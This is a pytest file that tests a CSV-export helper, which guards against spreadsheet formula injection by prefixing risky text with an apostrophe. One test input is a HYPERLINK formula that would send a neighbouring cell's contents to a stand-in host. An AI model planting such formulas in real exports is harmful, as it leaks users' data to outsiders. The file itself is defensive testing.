"""Typed text in a CSV download is shown as typed, never run as a formula (CSV injection)."""

import csv
import io

import pytest

from core.xlsx import csv_text


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://x?"&A2)', "+62 812", "-1+1", "@SUM(A1)", "\t=1"])
def test_a_text_that_would_start_a_formula_is_prefixed(typed):
    assert csv_text(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Budi Santoso", "198001012005011001", "", "NIP tidak sah"])
def test_other_text_is_kept_as_typed(typed):
    assert csv_text(typed) == typed


def test_the_prefixed_field_survives_the_csv_writer():
    out = io.StringIO()
    csv.writer(out).writerow([csv_text("=1+1"), csv_text("Budi")])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "Budi"]
